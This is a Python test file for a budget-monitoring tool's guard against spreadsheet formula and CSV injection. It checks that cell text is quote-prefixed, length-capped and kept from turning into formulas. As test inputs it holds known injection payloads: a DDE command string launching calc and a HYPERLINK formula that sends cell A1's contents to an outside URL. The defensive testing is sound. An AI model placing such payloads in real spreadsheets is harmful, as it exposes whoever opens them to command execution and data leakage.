"""Text from the input made safe for report cells (formula / CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import python_calamine
import xlsxwriter

from budget_monitor.textsafe import MAX_CELL_CHARS, XLSXWRITER_OPTIONS, cell_text, neutralise, safe_text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?"&A1, "Click")',
        "=cmd|' /C calc'!A0",
        "+44 1622 000000",
        "-£1,234 overspend",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u00a0=1+1",
    ],
)
def test_formula_starts_are_neutralised(text):
    safe, changed = neutralise(text)
    assert changed and safe == "'" + text
    assert safe.endswith(text)  # the same words, only a quote in front


@pytest.mark.parametrize(
    "text", ["", "Legal costs", "Residential care (older people)", "'=already quoted", "a=b", "1-2"]
)
def test_other_text_is_unchanged(text):
    assert neutralise(text) == (text, False)
    assert safe_text(text) == text


def test_neutralising_twice_changes_nothing_more():
    once, _ = neutralise("=1+1")
    assert neutralise(once) == (once, False)


def test_cell_text_cuts_to_excels_limit():
    text, changed = cell_text("x" * (MAX_CELL_CHARS + 10))
    assert changed and len(text) == MAX_CELL_CHARS and text.endswith("...")
    assert cell_text("-5") == ("'-5", True)
    assert cell_text("fine") == ("fine", False)


def _book(tmp_path, write):
    path = tmp_path / "report.xlsx"
    wb = xlsxwriter.Workbook(str(path), XLSXWRITER_OPTIONS)
    write(wb.add_worksheet("Report"))
    wb.close()
    return path


def test_report_cells_are_text_and_stay_text_as_csv(tmp_path):
    payload = "=cmd|' /C calc'!A0"
    path = _book(tmp_path, lambda ws: ws.write_string(0, 0, safe_text(payload)))
    with zipfile.ZipFile(path) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    with python_calamine.CalamineWorkbook.from_path(str(path)) as book:
        value = book.get_sheet_by_name("Report").to_python()[0][0]
    assert value == "'" + payload
    out = io.StringIO()
    csv.writer(out).writerow([value])  # what "save as CSV" writes: the cell starts with a quote
    assert out.getvalue().lstrip('"')[0] not in "=+-@\t\r"


def test_xlsxwriter_options_keep_write_from_making_formulas_or_links(tmp_path):
    def write(ws):
        ws.write(0, 0, "=1+1")
        ws.write(1, 0, "https://example.com")
        ws.write(2, 0, "123")

    path = _book(tmp_path, write)
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"hyperlink" not in sheet
    with python_calamine.CalamineWorkbook.from_path(str(path)) as book:
        assert book.get_sheet_by_name("Report").to_python() == [["=1+1"], ["https://example.com"], ["123"]]
